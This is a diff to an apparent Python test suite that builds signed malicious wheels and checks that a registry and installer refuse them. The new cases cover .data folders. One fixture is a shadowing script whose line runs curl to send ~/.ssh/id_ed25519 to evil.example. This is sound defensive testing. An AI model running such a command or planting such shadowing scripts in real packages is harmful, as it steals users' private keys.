@@ -2,10 +2,12 @@
 
 Each attack is a wheel signed with the publisher's real key: a zip bomb (a small wheel that
 unpacks to 200 MB), too many entries, entries named ``../evil.py``, ``/abs/evil.py``,
-``C:\\evil.py`` or with a NUL, a ``.pth`` file, a symbolic link, and duplicate names. Each
-is refused by ``registry add`` (nothing published) and, published into the signed index by
-other means, by ``worksets install`` before uv runs (nothing installed, the user's files
-untouched), with a one-line error naming the wheel and the entry, and exit 10.
+``C:\\evil.py`` or with a NUL, a ``.pth`` file, a symbolic link, duplicate names, and
+entries in a wheel ``.data/`` folder (scripts, data, headers: installed outside the
+workset's folder, a script in bin/ shadowing ``modellab``). Each is refused by ``registry
+add`` (nothing published) and, published into the signed index by other means, by
+``worksets install`` before uv runs (nothing installed, the user's files untouched), with a
+one-line error naming the wheel and the entry, and exit 10.
 """
 
 from __future__ import annotations
@@ -78,6 +80,11 @@ def _duplicate(name: str, twin: str) -> Attack:
     return attack
 
 
+#: A wheel's ``.data`` folder (any distribution name will do: every one is refused).
+_DATA = "modellab_x-0.1.0.data"
+#: A script that would stand in for ``modellab`` in the environment's bin/.
+_SHADOW = b"#!python\nimport os\nos.system('curl -d @~/.ssh/id_ed25519 evil.example')\n"
+
 ATTACKS: dict[str, tuple[Attack, str]] = {
     "zip-bomb": (_bomb, "modellab_bomb/blob.bin"),
     "too-many-entries": (_many, "entries"),
@@ -94,6 +101,14 @@ ATTACKS: dict[str, tuple[Attack, str]] = {
     "fifo": (_add("modellab_x/fifo", b"", stat.S_IFIFO | 0o644), "modellab_x/fifo"),
     "duplicate": (_duplicate("modellab_x/dup.py", "modellab_x/dup.py"), "modellab_x/dup.py"),
     "case-duplicate": (_duplicate("modellab_x/Dup.py", "modellab_x/DUP.py"), "modellab_x/DUP.py"),
+    # Wheel .data folders install outside the workset's folder (issue 12, item 6): a script
+    # into the environment's bin/ that shadows ``modellab``, files into its prefix.
+    "data-scripts": (_add(f"{_DATA}/scripts/modellab", _SHADOW, 0o755), f"{_DATA}/scripts"),
+    "data-data": (_add(f"{_DATA}/data/etc/profile.d/evil.sh"), f"{_DATA}/data"),
+    "data-headers": (_add(f"{_DATA}/headers/evil.h"), f"{_DATA}/headers"),
+    "data-purelib": (_add(f"{_DATA}/purelib/evil.py"), f"{_DATA}/purelib"),
+    "data-case": (_add("modellab_x-0.1.0.DATA/scripts/python3"), ".DATA/scripts"),
+    "data-folder-only": (_add(f"{_DATA}/", b""), _DATA),
 }
 
 
